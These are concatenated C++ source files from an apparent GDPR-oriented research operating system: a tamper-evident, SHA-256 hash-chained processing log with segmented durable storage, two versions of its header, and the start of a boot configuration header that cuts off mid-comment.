  w.PutU8(static_cast<std::uint8_t>(entry.outcome));
  w.PutString(entry.detail);
  w.PutRaw(ByteSpan(prev.data(), prev.size()));
  return crypto::Sha256Hash(w.buffer());
}

Bytes ProcessingLog::EncodeEntry(const LogEntry& entry) {
  ByteWriter w;
  w.PutU64(entry.seq);
  w.PutI64(entry.at);
  w.PutString(entry.processing);
  w.PutString(entry.purpose);
  w.PutU64(entry.subject_id);
  w.PutU64(entry.record_id);
  w.PutU8(static_cast<std::uint8_t>(entry.outcome));
  w.PutString(entry.detail);
  w.PutRaw(ByteSpan(entry.chain.data(), entry.chain.size()));
  return w.Take();
}

Result<LogEntry> ProcessingLog::DecodeEntry(ByteReader& reader) {
  LogEntry entry;
  RGPD_ASSIGN_OR_RETURN(entry.seq, reader.GetU64());
  RGPD_ASSIGN_OR_RETURN(entry.at, reader.GetI64());
  RGPD_ASSIGN_OR_RETURN(entry.processing, reader.GetString());
  RGPD_ASSIGN_OR_RETURN(entry.purpose, reader.GetString());
  RGPD_ASSIGN_OR_RETURN(entry.subject_id, reader.GetU64());
  RGPD_ASSIGN_OR_RETURN(entry.record_id, reader.GetU64());
  RGPD_ASSIGN_OR_RETURN(std::uint8_t outcome, reader.GetU8());
  if (outcome > static_cast<std::uint8_t>(LogOutcome::kObjected)) {
    return Corruption("processing log: unknown outcome");
  }
  entry.outcome = static_cast<LogOutcome>(outcome);
  RGPD_ASSIGN_OR_RETURN(entry.detail, reader.GetString());
  RGPD_ASSIGN_OR_RETURN(Bytes chain,
                        reader.GetRaw(crypto::kSha256DigestSize));
  std::copy(chain.begin(), chain.end(), entry.chain.begin());
  return entry;
}

Status ProcessingLog::DecodeVerifiedStream(ByteSpan raw,
                                           std::uint64_t* next_seq,
                                           crypto::Sha256Digest* prev,
                                           std::vector<LogEntry>* out) {
  ByteReader reader(raw);
  while (!reader.exhausted()) {
    RGPD_ASSIGN_OR_RETURN(LogEntry entry, DecodeEntry(reader));
    if (entry.seq != *next_seq) {
      return Corruption("processing log: sequence gap at " +
                        std::to_string(entry.seq) + " (expected " +
                        std::to_string(*next_seq) + ")");
    }
    if (!crypto::DigestEqual(HashEntry(entry, *prev), entry.chain)) {
      return Corruption("processing log: hash chain broken at seq " +
                        std::to_string(entry.seq));
    }
    *prev = entry.chain;
    ++*next_seq;
    if (out != nullptr) out->push_back(std::move(entry));
  }
  return Status::Ok();
}

Status ProcessingLog::AttachSegmentedStore(
    inodefs::InodeStore* store, inodefs::InodeId manifest_inode,
    const auditlog::SegmentedLogOptions& options) {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  RGPD_ASSIGN_OR_RETURN(
      segments_, auditlog::SegmentedLog::Create(store, manifest_inode,
                                                options));
  store_ = nullptr;
  inode_ = inodefs::kInvalidInode;
  return Status::Ok();
}

Status ProcessingLog::LoadFromStore(
    inodefs::InodeStore* store, inodefs::InodeId inode,
    const auditlog::SegmentedLogOptions& options) {
  RGPD_ASSIGN_OR_RETURN(Bytes raw, store->ReadAll(inode));

  if (auditlog::SegmentedLog::LooksLikeManifest(raw)) {
    RGPD_ASSIGN_OR_RETURN(
        std::unique_ptr<auditlog::SegmentedLog> segments,
        auditlog::SegmentedLog::Mount(store, inode, options));
    // Entry-level pass: decode every segment payload and the active
    // tail, verifying the chain and cross-checking each sealed
    // segment's recorded tail against what its entries actually hash
    // to.
    std::vector<LogEntry> loaded;
    std::uint64_t next_seq = 0;
    crypto::Sha256Digest prev{};
    std::size_t chunk = 0;
    std::uint64_t entries_before_active = 0;
    RGPD_RETURN_IF_ERROR(segments->ScanRaw([&](ByteSpan chunk_raw) {
      RGPD_RETURN_IF_ERROR(
          DecodeVerifiedStream(chunk_raw, &next_seq, &prev, &loaded));
      if (chunk < segments->sealed().size()) {
        const auditlog::SealedSegment& seg = segments->sealed()[chunk];
        if (!crypto::DigestEqual(prev, seg.chain_tail)) {
          return Corruption(
              "processing log: sealed segment tail does not match its "
              "entries");
        }
        entries_before_active = next_seq;
      }
      ++chunk;
      return Status::Ok();
    }));
    segments->AdoptActiveState(
        static_cast<std::uint32_t>(next_seq - entries_before_active), prev);

    std::lock_guard<metrics::OrderedMutex> lock(mu_);
    segments_ = std::move(segments);
    store_ = nullptr;
    inode_ = inodefs::kInvalidInode;
    entries_.assign(std::make_move_iterator(loaded.begin()),
                    std::make_move_iterator(loaded.end()));
    total_ = next_seq;
    tail_ = prev;
    window_prev_ = crypto::Sha256Digest{};
    TrimWindowLocked();
    return Status::Ok();
  }

  // Legacy flat stream.
  std::vector<LogEntry> loaded;
  std::uint64_t next_seq = 0;
  crypto::Sha256Digest prev{};
  RGPD_RETURN_IF_ERROR(DecodeVerifiedStream(raw, &next_seq, &prev, &loaded));
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  segments_.reset();
  entries_.assign(std::make_move_iterator(loaded.begin()),
                  std::make_move_iterator(loaded.end()));
  total_ = next_seq;
  tail_ = prev;
  window_prev_ = crypto::Sha256Digest{};
  store_ = store;
  inode_ = inode;
  TrimWindowLocked();
  return Status::Ok();
}

void ProcessingLog::CommitEntryLocked(LogEntry entry, Bytes& encoded) {
  entry.seq = total_++;
  entry.chain = HashEntry(entry, tail_);
  tail_ = entry.chain;
  const Bytes bytes = EncodeEntry(entry);
  encoded.insert(encoded.end(), bytes.begin(), bytes.end());
  entries_.push_back(std::move(entry));
}

void ProcessingLog::DurableAppendLocked(const Bytes& encoded,
                                        std::uint32_t entry_count) {
  if (encoded.empty()) return;
  Status appended = Status::Ok();
  if (segments_ != nullptr) {
    appended = segments_->AppendBatch(encoded, entry_count, tail_);
  } else if (store_ != nullptr) {
    appended = store_->Append(inode_, encoded);
  } else {
    return;
  }
  // An IO failure here is deliberately loud: silently losing audit
  // history would defeat the log.
  if (!appended.ok()) {
    RGPD_METRIC_COUNT_N("core.processing_log.write_errors", entry_count);
    RGPD_LOG(kError, "processing_log")
        << "append failed: " << appended.ToString();
  }
}

void ProcessingLog::TrimWindowLocked() {
  if (hot_window_ == 0) return;
  while (entries_.size() > hot_window_) {
    window_prev_ = entries_.front().chain;
    entries_.pop_front();
    RGPD_METRIC_COUNT("core.processing_log.window_evictions");
  }
}

void ProcessingLog::SetHotWindow(std::size_t n) {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  hot_window_ = n;
  TrimWindowLocked();
}

void ProcessingLog::Append(std::string processing, std::string purpose,
                           dbfs::SubjectId subject, dbfs::RecordId record,
                           LogOutcome outcome, std::string detail) {
  LogEntry entry;
  entry.at = clock_->Now();
  entry.processing = std::move(processing);
  entry.purpose = std::move(purpose);
  entry.subject_id = subject;
  entry.record_id = record;
  entry.outcome = outcome;
  entry.detail = std::move(detail);
  if (t_batch.depth > 0 && t_batch.log == this) {
    // Inside this thread's batch: park the entry; seq and chain are
    // assigned contiguously at EndBatch.
    t_batch.staged.push_back(std::move(entry));
    return;
  }
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  Bytes encoded;
  CommitEntryLocked(std::move(entry), encoded);
  DurableAppendLocked(encoded, 1);
  TrimWindowLocked();
}

std::size_t ProcessingLog::entry_count() const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  return entries_.size();
}

std::uint64_t ProcessingLog::total_entries() const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  return total_;
}

std::vector<LogEntry> ProcessingLog::ForRecord(dbfs::RecordId record) const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  std::vector<LogEntry> out;
  if (segments_ != nullptr && total_ > entries_.size()) {
    // The window has trimmed: the full history lives durably.
    std::uint64_t next_seq = 0;
    crypto::Sha256Digest prev{};
    std::vector<LogEntry> all;
    const Status scanned = segments_->ScanRaw([&](ByteSpan raw) {
      return DecodeVerifiedStream(raw, &next_seq, &prev, &all);
    });
    if (scanned.ok()) {
      for (LogEntry& e : all) {
        if (e.record_id == record) out.push_back(std::move(e));
      }
      return out;
    }
    RGPD_LOG(kError, "processing_log")
        << "durable scan failed, serving hot window only: "
        << scanned.ToString();
  }
  for (const LogEntry& e : entries_) {
    if (e.record_id == record) out.push_back(e);
  }
  return out;
}

std::vector<LogEntry> ProcessingLog::ForSubject(
    dbfs::SubjectId subject) const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  std::vector<LogEntry> out;
  if (segments_ != nullptr && total_ > entries_.size()) {
    std::uint64_t next_seq = 0;
    crypto::Sha256Digest prev{};
    std::vector<LogEntry> all;
    const Status scanned = segments_->ScanRaw([&](ByteSpan raw) {
      return DecodeVerifiedStream(raw, &next_seq, &prev, &all);
    });
    if (scanned.ok()) {
      for (LogEntry& e : all) {
        if (e.subject_id == subject) out.push_back(std::move(e));
      }
      return out;
    }
    RGPD_LOG(kError, "processing_log")
        << "durable scan failed, serving hot window only: "
        << scanned.ToString();
  }
  for (const LogEntry& e : entries_) {
    if (e.subject_id == subject) out.push_back(e);
  }
  return out;
}

Status ProcessingLog::ForEach(
    const std::function<void(const LogEntry&)>& fn) const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  if (segments_ != nullptr && total_ > entries_.size()) {
    std::uint64_t next_seq = 0;
    crypto::Sha256Digest prev{};
    return segments_->ScanRaw([&](ByteSpan raw) {
      std::vector<LogEntry> chunk;
      RGPD_RETURN_IF_ERROR(
          DecodeVerifiedStream(raw, &next_seq, &prev, &chunk));
      for (const LogEntry& e : chunk) fn(e);
      return Status::Ok();
    });
  }
  for (const LogEntry& e : entries_) fn(e);
  return Status::Ok();
}

void ProcessingLog::BeginBatch() {
  if (t_batch.depth > 0 && t_batch.log != this) {
    // A batch for another log is active on this thread; appends to THIS
    // log stay unbatched (Append checks the owner). Don't disturb it.
    return;
  }
  t_batch.log = this;
  ++t_batch.depth;
}

void ProcessingLog::EndBatch() {
  if (t_batch.log != this || t_batch.depth == 0) return;
  if (--t_batch.depth > 0) return;
  std::vector<LogEntry> staged = std::move(t_batch.staged);
  t_batch.staged.clear();
  t_batch.log = nullptr;
  if (staged.empty()) return;
  // One lock hold finalises the whole batch: contiguous sequence
  // numbers, one chain continuation, one durable append.
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  Bytes encoded;
  for (LogEntry& entry : staged) {
    CommitEntryLocked(std::move(entry), encoded);
  }
  DurableAppendLocked(encoded, static_cast<std::uint32_t>(staged.size()));
  TrimWindowLocked();
}

bool ProcessingLog::VerifyChain() const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  crypto::Sha256Digest prev = window_prev_;
  for (const LogEntry& e : entries_) {
    if (!crypto::DigestEqual(HashEntry(e, prev), e.chain)) return false;
    prev = e.chain;
  }
  return true;
}

Status ProcessingLog::VerifyDurableChain() const {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  if (segments_ == nullptr) return Status::Ok();
  std::uint64_t next_seq = 0;
  crypto::Sha256Digest prev{};
  return segments_->ScanRaw([&](ByteSpan raw) {
    return DecodeVerifiedStream(raw, &next_seq, &prev, nullptr);
  });
}

Status ProcessingLog::SealSegments() {
  std::lock_guard<metrics::OrderedMutex> lock(mu_);
  if (segments_ == nullptr) return Status::Ok();
  return segments_->Seal();
}

}  // namespace rgpdos::core
