// Processing log — the DED "logs every executed processing. This log is
// organized so that it can give information about executed processings
// for each piece of PD" (paper §4, right of access).
//
// Entries form a SHA-256 hash chain so an auditor can detect tampering
// or truncation: each entry's digest covers its content and the previous
// digest.
//
// Thread-safety: the entry list, hash chain and durable append serialise
// on one lock at rank kCoreLog (just below the ProcessingStore lock, so
// the store may log while holding its own lock). Batching is per-thread:
// a BatchScope stages entries in thread-local storage WITHOUT touching
// the shared chain, and EndBatch assigns their sequence numbers and
// chain digests contiguously under the lock, then makes them durable in
// one store append. Entries for one record therefore carry sequence
// numbers in happens-before order: within a batch by staging order, and
// across batches/threads by flush order under the lock.
#pragma once

#include <mutex>
#include <string>
#include <vector>

#include "common/clock.hpp"
#include "crypto/sha256.hpp"
#include "dbfs/dbfs.hpp"
#include "metrics/lock.hpp"

namespace rgpdos::core {

enum class LogOutcome : std::uint8_t {
  kProcessed = 0,   ///< PD was read/derived under a valid consent
  kFiltered,        ///< the membrane denied the purpose (or TTL expired)
  kErased,          ///< right-to-be-forgotten executed
  kCollected,       ///< PD entered the system (acquisition built-in)
  kUpdated,
  kCopied,
  kExported,        ///< right of access / portability
  kAborted,         ///< processing killed (syscall filter)
  kRestricted,      ///< Art. 18 restriction set or lifted
};

std::string_view LogOutcomeName(LogOutcome outcome);

struct LogEntry {
  std::uint64_t seq = 0;
  TimeMicros at = 0;
  std::string processing;   ///< processing (function) name
  std::string purpose;      ///< declared purpose
  dbfs::SubjectId subject_id = 0;
  dbfs::RecordId record_id = 0;
  LogOutcome outcome = LogOutcome::kProcessed;
  std::string detail;
  crypto::Sha256Digest chain{};  ///< hash over entry content + prev chain
};

class ProcessingLog {
 public:
  explicit ProcessingLog(const Clock* clock) : clock_(clock) {}

  /// Make the log durable: every Append is also written to `inode` on
  /// `store` (the DBFS store — the log names subjects and purposes, so
  /// it must NOT live on the generally-readable NPD filesystem).
  void AttachStore(inodefs::InodeStore* store, inodefs::InodeId inode) {
    store_ = store;
    inode_ = inode;
  }

  /// Reload a persisted log, verifying the hash chain entry by entry;
  /// fails with kCorruption on any tampering or truncation-in-the-middle.
  Status LoadFromStore(inodefs::InodeStore* store, inodefs::InodeId inode);

  void Append(std::string processing, std::string purpose,
              dbfs::SubjectId subject, dbfs::RecordId record,
              LogOutcome outcome, std::string detail = {});

  /// Group commit: between BeginBatch and EndBatch, this thread's
  /// appends are staged thread-locally (no shared state touched) and
  /// committed to the chain + written to the store in ONE durable append
  /// (the DED batches one pipeline run's entries; per-record durability
  /// would multiply the journal traffic by the record count). Batches on
  /// different threads stage independently and serialise at EndBatch.
  /// RAII wrapper below.
  void BeginBatch();
  void EndBatch();

  class BatchScope {
   public:
    explicit BatchScope(ProcessingLog& log) : log_(log) {
      log_.BeginBatch();
    }
    ~BatchScope() { log_.EndBatch(); }
    BatchScope(const BatchScope&) = delete;
    BatchScope& operator=(const BatchScope&) = delete;

   private:
    ProcessingLog& log_;
  };

  /// Quiescent-time view of the raw log. Not safe while other threads
  /// Append; concurrent readers use the copying queries below.
  [[nodiscard]] const std::vector<LogEntry>& entries() const {
    return entries_;
  }
  [[nodiscard]] std::size_t entry_count() const;
  /// Every processing that touched one PD record (copied under the lock).
  [[nodiscard]] std::vector<LogEntry> ForRecord(dbfs::RecordId record) const;
  /// Every processing that touched one subject's PD.
  [[nodiscard]] std::vector<LogEntry> ForSubject(
      dbfs::SubjectId subject) const;

  /// Recompute the hash chain; false if any entry was altered.
  [[nodiscard]] bool VerifyChain() const;

 private:
  static crypto::Sha256Digest HashEntry(const LogEntry& entry,
                                        const crypto::Sha256Digest& prev);
  static Bytes EncodeEntry(const LogEntry& entry);
  static Result<LogEntry> DecodeEntry(ByteReader& reader);

  /// Finalise one entry (seq + chain continuation), append its encoding
  /// to `encoded` and move it into entries_. Caller holds mu_.
  void CommitEntryLocked(LogEntry entry, Bytes& encoded);
  void DurableAppendLocked(const Bytes& encoded);

  const Clock* clock_;  // borrowed
  mutable metrics::OrderedMutex mu_{metrics::LockRank::kCoreLog,
                                    "core.processing_log"};
  std::vector<LogEntry> entries_;
  inodefs::InodeStore* store_ = nullptr;  // borrowed; null = memory-only
  inodefs::InodeId inode_ = inodefs::kInvalidInode;
};

}  // namespace rgpdos::core
