// Processing log — the DED "logs every executed processing. This log is
// organized so that it can give information about executed processings
// for each piece of PD" (paper §4, right of access).
//
// Entries form a SHA-256 hash chain so an auditor can detect tampering
// or truncation: each entry's digest covers its content and the previous
// digest.
//
// Durability comes in two shapes:
//
//   * Legacy flat log (AttachStore): every append lands on one inode as
//     a raw entry stream. Simple, but the whole history must be decoded
//     on every reload and held in memory forever.
//   * Segmented log (AttachSegmentedStore): appends go to an
//     auditlog::SegmentedLog — compressed, CRC'd, chain-bound sealed
//     segments behind a manifest. In-memory the log keeps only a bounded
//     HOT WINDOW (SetHotWindow) of recent entries; older history lives
//     in the sealed segments and is consulted on demand (ForRecord /
//     ForSubject / ForEach fall back to a durable scan when the window
//     has trimmed). LoadFromStore auto-detects which format an inode
//     holds, so remounts of old images keep working.
//
// Thread-safety: the entry window, hash chain and durable append
// serialise on one lock at rank kCoreLog (just below the
// ProcessingStore lock, so the store may log while holding its own
// lock). Batching is per-thread: a BatchScope stages entries in
// thread-local storage WITHOUT touching the shared chain, and EndBatch
// assigns their sequence numbers and chain digests contiguously under
// the lock, then makes them durable in one store append. Entries for
// one record therefore carry sequence numbers in happens-before order:
// within a batch by staging order, and across batches/threads by flush
// order under the lock.
#pragma once

#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

#include "auditlog/segmented_log.hpp"
#include "common/clock.hpp"
#include "crypto/sha256.hpp"
#include "dbfs/dbfs.hpp"
#include "metrics/lock.hpp"

namespace rgpdos::core {

enum class LogOutcome : std::uint8_t {
  kProcessed = 0,   ///< PD was read/derived under a valid consent
  kFiltered,        ///< the membrane denied the purpose (or TTL expired)
  kErased,          ///< right-to-be-forgotten executed
  kCollected,       ///< PD entered the system (acquisition built-in)
  kUpdated,
  kCopied,
  kExported,        ///< right of access / portability
  kAborted,         ///< processing killed (syscall filter)
  kRestricted,      ///< Art. 18 restriction set or lifted
  kObjected,        ///< Art. 21 objection / Art. 22 automated-decision
                    ///< opt-out recorded or withdrawn
};

std::string_view LogOutcomeName(LogOutcome outcome);

struct LogEntry {
  std::uint64_t seq = 0;
  TimeMicros at = 0;
  std::string processing;   ///< processing (function) name
  std::string purpose;      ///< declared purpose
  dbfs::SubjectId subject_id = 0;
  dbfs::RecordId record_id = 0;
  LogOutcome outcome = LogOutcome::kProcessed;
  std::string detail;
  crypto::Sha256Digest chain{};  ///< hash over entry content + prev chain
};

class ProcessingLog {
 public:
  explicit ProcessingLog(const Clock* clock) : clock_(clock) {}

  /// Make the log durable in the LEGACY flat format: every Append is
  /// also written to `inode` on `store` (the DBFS store — the log names
  /// subjects and purposes, so it must NOT live on the generally-
  /// readable NPD filesystem).
  void AttachStore(inodefs::InodeStore* store, inodefs::InodeId inode) {
    store_ = store;
    inode_ = inode;
    segments_.reset();
  }

  /// Make the log durable in the SEGMENTED format: `manifest_inode`
  /// (caller-allocated, empty) becomes the manifest of a fresh
  /// auditlog::SegmentedLog. Use LoadFromStore instead when the inode
  /// already holds data.
  Status AttachSegmentedStore(inodefs::InodeStore* store,
                              inodefs::InodeId manifest_inode,
                              const auditlog::SegmentedLogOptions& options = {});

  /// Reload a persisted log, verifying the hash chain entry by entry;
  /// fails with kCorruption on any tampering or truncation-in-the-middle.
  /// Auto-detects the on-store format: a segmented manifest is mounted
  /// (sealed segments CRC- and chain-verified) and later appends stay
  /// segmented; a legacy flat stream is decoded in place and later
  /// appends stay flat.
  Status LoadFromStore(inodefs::InodeStore* store, inodefs::InodeId inode,
                       const auditlog::SegmentedLogOptions& options = {});

  void Append(std::string processing, std::string purpose,
              dbfs::SubjectId subject, dbfs::RecordId record,
              LogOutcome outcome, std::string detail = {});

  /// Group commit: between BeginBatch and EndBatch, this thread's
  /// appends are staged thread-locally (no shared state touched) and
  /// committed to the chain + written to the store in ONE durable append
  /// (the DED batches one pipeline run's entries; per-record durability
  /// would multiply the journal traffic by the record count). Batches on
  /// different threads stage independently and serialise at EndBatch.
  /// RAII wrapper below.
  void BeginBatch();
  void EndBatch();

  class BatchScope {
   public:
    explicit BatchScope(ProcessingLog& log) : log_(log) {
      log_.BeginBatch();
    }
    ~BatchScope() { log_.EndBatch(); }
    BatchScope(const BatchScope&) = delete;
    BatchScope& operator=(const BatchScope&) = delete;

   private:
    ProcessingLog& log_;
  };

  /// Bound the in-memory window to the newest `n` entries (0 =
  /// unbounded). Trimmed entries remain durable and reachable through
  /// the queries below when a segmented store is attached.
  void SetHotWindow(std::size_t n);
  [[nodiscard]] std::size_t hot_window() const { return hot_window_; }
  /// True when appends go to a segmented store (trimmed window history
  /// stays queryable durably).
  [[nodiscard]] bool segmented_durability() const {
    return segments_ != nullptr;
  }

  /// Quiescent-time view of the in-memory window (the full log when
  /// nothing has been trimmed), oldest first. Not safe while other
  /// threads Append; concurrent readers use the copying queries below.
  [[nodiscard]] const std::deque<LogEntry>& entries() const {
    return entries_;
  }
  /// Entries currently in the in-memory window.
  [[nodiscard]] std::size_t entry_count() const;
  /// Entries ever appended (window + trimmed-but-durable history).
  [[nodiscard]] std::uint64_t total_entries() const;
  /// Every processing that touched one PD record. Scans the durable
  /// history when the window has trimmed; copied under the lock.
  [[nodiscard]] std::vector<LogEntry> ForRecord(dbfs::RecordId record) const;
  /// Every processing that touched one subject's PD.
  [[nodiscard]] std::vector<LogEntry> ForSubject(
      dbfs::SubjectId subject) const;
  /// Visit every entry in sequence order — durable history first when a
  /// segmented store is attached (regulator export path). The visitor
  /// runs under the log lock; it must not re-enter the log.
  Status ForEach(const std::function<void(const LogEntry&)>& fn) const;

  /// Recompute the hash chain over the in-memory window (anchored at
  /// the digest of the last trimmed entry); false if altered.
  [[nodiscard]] bool VerifyChain() const;
  /// Decode + chain-verify the ENTIRE durable log (sealed segments +
  /// active tail). Ok when no segmented store is attached.
  [[nodiscard]] Status VerifyDurableChain() const;

  /// Force-seal the active segment (tests, clean shutdown).
  Status SealSegments();

  static crypto::Sha256Digest HashEntry(const LogEntry& entry,
                                        const crypto::Sha256Digest& prev);
  static Bytes EncodeEntry(const LogEntry& entry);
  static Result<LogEntry> DecodeEntry(ByteReader& reader);

 private:
  /// Finalise one entry (seq + chain continuation), append its encoding
  /// to `encoded` and move it into entries_. Caller holds mu_.
  void CommitEntryLocked(LogEntry entry, Bytes& encoded);
  void DurableAppendLocked(const Bytes& encoded, std::uint32_t entry_count);
  /// Evict oldest window entries past the bound. Caller holds mu_.
  void TrimWindowLocked();
  /// Decode + verify one raw stream chunk continuing from *prev /
  /// *next_seq; appends to `out` when non-null.
  static Status DecodeVerifiedStream(ByteSpan raw, std::uint64_t* next_seq,
                                     crypto::Sha256Digest* prev,
                                     std::vector<LogEntry>* out);

  const Clock* clock_;  // borrowed
  mutable metrics::OrderedMutex mu_{metrics::LockRank::kCoreLog,
                                    "core.processing_log"};
  std::deque<LogEntry> entries_;
  /// Newest-N bound on entries_; 0 = unbounded.
  std::size_t hot_window_ = 0;
  /// Entries ever committed; the next sequence number.
  std::uint64_t total_ = 0;
  /// Chain digest of the last TRIMMED entry — the anchor the window's
  /// first entry chains from (zero while nothing has been trimmed).
  crypto::Sha256Digest window_prev_{};
  /// Chain digest of the newest committed entry.
  crypto::Sha256Digest tail_{};

  inodefs::InodeStore* store_ = nullptr;  // borrowed; null = memory-only
  inodefs::InodeId inode_ = inodefs::kInvalidInode;
  /// Non-null = segmented durability (store_/inode_ then unused).
  std::unique_ptr<auditlog::SegmentedLog> segments_;
};

}  // namespace rgpdos::core
