// RgpdOs — the machine facade. Boots the whole stack of Fig. 4:
//
//   block devices (simulated)  ->  inode stores (journaled)
//     ├─ DBFS device  -> DBFS (schema tree + subject tree, PD only)
//     └─ NPD device   -> file-granularity filesystem (ext4 stand-in)
//   sentinel (LSM analogue) + audit sink
//   ProcessingStore (ps_register / ps_invoke)  ->  DED pipeline
//   built-ins (update/delete/copy/acquisition), rights, processing log
//   supervisory authority (escrow keypair; operator sees only the
//   public key)
//
// Examples and benches talk to this class; tests mostly target the
// individual components underneath.
#pragma once

#include <memory>
#include <vector>

#include "blockdev/async.hpp"
#include "blockdev/block_cache.hpp"
#include "blockdev/block_device.hpp"
#include "blockdev/fault_injection.hpp"
#include "blockdev/latency_model.hpp"
#include "core/anonymize.hpp"
#include "core/authority.hpp"
#include "core/builtins.hpp"
#include "core/processing_store.hpp"
#include "core/receipts.hpp"
#include "core/retention.hpp"
#include "core/rights.hpp"
#include "inodefs/filesystem.hpp"
#include "sentinel/audit_pipeline.hpp"

namespace rgpdos::core {

struct BootConfig {
  std::uint32_t block_size = 4096;
  std::uint64_t dbfs_blocks = 16384;  ///< 64 MiB DBFS device
  std::uint64_t npd_blocks = 4096;    ///< 16 MiB NPD device
  std::uint32_t inode_count = 16384;
  std::uint64_t journal_blocks = 256;
  std::size_t authority_key_bits = 1024;
  /// Deterministic seed for key generation and envelopes (tests/benches);
  /// 0 draws entropy.
  std::uint64_t seed = 42;
  /// Use a manually advanced clock (TTL tests) instead of wall time.
  bool use_sim_clock = false;
  /// Physically segregate high-sensitivity PD onto a dedicated second
  /// device/store (paper §2's storage-separation prescription).
  bool split_sensitive = false;
  std::uint64_t sensitive_blocks = 4096;
  /// DED worker pool size. 1 (default) runs every pipeline inline on
  /// the invoking thread — the historical behaviour; 0 sizes the pool
  /// from the kernel's CPU partition (kernel::CpuPartition::Plan); N > 1
  /// spawns N-1 pool threads so an invoke uses N lanes total.
  unsigned worker_threads = 1;
  /// PD read-path caching (see DESIGN.md "Caching & invalidation").
  /// Setting every cache_* knob to 0/false restores the uncached
  /// behaviour; the env var RGPDOS_CACHE=0 does the same at runtime.
  /// Block-cache capacity in blocks, per PD store (the primary and the
  /// split sensitive store each get their own cache). 0 = no block cache.
  std::uint64_t cache_blocks = 1024;
  /// Lock shards per block cache.
  std::size_t cache_shards = 8;
  /// Decoded-record cache capacity in records. 0 = no record cache.
  std::size_t cache_record_entries = 4096;
  /// Memoize per-invoke consent decisions in the DED.
  bool cache_decisions = true;
  /// Simulated device cost model applied to the PD devices (benches
  /// normalise throughput by wall + simulated time). Zero = no model.
  blockdev::LatencyProfile latency = blockdev::LatencyProfile::Zero();
  /// Async block layer (DESIGN.md §13): wrap each PD device in an
  /// AsyncBlockDevice submission/completion ring so journal commits and
  /// checkpoints go out as amortised batched submissions with flush
  /// coalescing. RGPDOS_ASYNC=0 kills it at runtime; turning it off
  /// (either way) also forces the latency model's queue depth to 1 so
  /// the A/B compares serialized against batched IO honestly.
  bool async_io = true;
  /// Submission-ring depth per PD device. 0 disables the ring like
  /// async_io = false. RGPDOS_RING_DEPTH overrides at runtime.
  std::size_t ring_depth = 16;
  /// Physiological (extent) journaling on the PD stores: journal only
  /// the dirty byte ranges of each block instead of whole images.
  /// Replay understands both formats, so flipping this between boots of
  /// the same image is safe. RGPDOS_EXTENTS=0 reverts to whole-block
  /// records at runtime.
  bool journal_extents = true;
  /// Fault injection on the PD devices (crash/torn-write/transient-error
  /// testing). When enabled, each PD raw device is wrapped in a
  /// FaultInjectingBlockDevice (innermost decorator) running `fault_plan`.
  /// The RGPDOS_FAULT_* env vars force this on at runtime — see README.
  bool fault_inject = false;
  blockdev::FaultPlan fault_plan;
  /// Non-zero: derive fault_plan with FaultPlan::FromSeed(fault_seed)
  /// at boot, overriding `fault_plan`. Mirrors RGPDOS_FAULT_SEED.
  std::uint64_t fault_seed = 0;
  /// Transient-IO retry policy handed to every inode store.
  inodefs::RetryPolicy io_retry;
  /// Retention sweeper (storage limitation, Art. 5(1)(e)): proactively
  /// erase PD whose membrane TTL has elapsed. When enabled, Boot starts
  /// the background daemon; disabled, the sweeper is still constructed
  /// so tests/benches can drive SweepOnce by hand. The env var
  /// RGPDOS_RETENTION overrides at runtime: 0 = disable the daemon,
  /// 1 = enable with the configured knobs, N > 1 = enable with
  /// pages-per-sweep N. See DESIGN.md "Retention & storage limitation".
  bool retention_enabled = false;
  /// Daemon period between sweeps, in milliseconds.
  std::uint64_t retention_interval_ms = 1000;
  /// Token-bucket refill: subjects scanned per sweep. 0 = unlimited.
  std::size_t retention_pages_per_sweep = 64;
  /// Token-bucket cap (burst). 0 = 2 * retention_pages_per_sweep.
  std::size_t retention_burst_pages = 0;
  /// Expiry flavour: false = journaled hard delete (physical scrub),
  /// true = crypto-erasure sealed to the supervisory authority.
  bool retention_crypto_erase = false;
  /// Audit-sink ring capacity (the in-memory hot window; entries kept,
  /// oldest evicted beyond this with exact evicted/dropped counters).
  /// sentinel::AuditSink::kUnbounded = never evict; 0 = retain nothing.
  std::size_t audit_entries = sentinel::AuditSink::kDefaultCapacity;
  /// Durable tamper-evident audit pipeline (DESIGN.md §14): every
  /// enforcement decision is hash-chained and persisted to sealed,
  /// compressed segments on shard 0's store by a background writer, and
  /// the processing log moves to the same segmented format with a
  /// bounded in-memory hot window. RGPDOS_AUDIT_DURABLE=0 kills it at
  /// runtime (in-memory ring + legacy flat processing log, the
  /// historical behaviour).
  bool audit_durable = true;
  /// Producer-side bounded queue in front of the audit writer thread.
  /// When full, producers BLOCK (backpressure) up to
  /// audit_backpressure_ms before the entry is counted dropped.
  /// RGPDOS_AUDIT_QUEUE overrides.
  std::size_t audit_queue_entries = 8192;
  /// Max entries the writer persists per batch (one journaled append).
  std::size_t audit_batch_entries = 256;
  /// Backpressure deadline, milliseconds. RGPDOS_AUDIT_BACKPRESSURE_MS
  /// overrides. 0 = fail immediately when the queue is full.
  std::uint64_t audit_backpressure_ms = 2000;
  /// Seal threshold for audit/processing-log segments (raw bytes).
  /// RGPDOS_AUDIT_SEGMENT_BYTES overrides.
  std::uint64_t audit_segment_bytes = 256 * 1024;
  /// LZ-compress sealed segments (raw kept when compression doesn't
  /// shrink).
  bool audit_compress = true;
  /// Bounded in-memory window of the processing log when segmented
  /// durability is on (0 = unbounded). Trimmed history stays durable
  /// and queryable. RGPDOS_AUDIT_HOT_WINDOW overrides.
  std::size_t audit_hot_window = 65536;
  /// Attach an existing DBFS image instead of formatting a fresh
  /// in-memory one: Boot mounts the device (replaying its journal — the
  /// boot-time crash-recovery entry point) rather than calling Format.
  /// The device is borrowed and must outlive the instance; it still gets
  /// the latency/cache decorators, which come up cold. Incompatible with
  /// split_sensitive (a split image needs two devices) and with
  /// `shards > 1` (one image is one shard — Boot returns
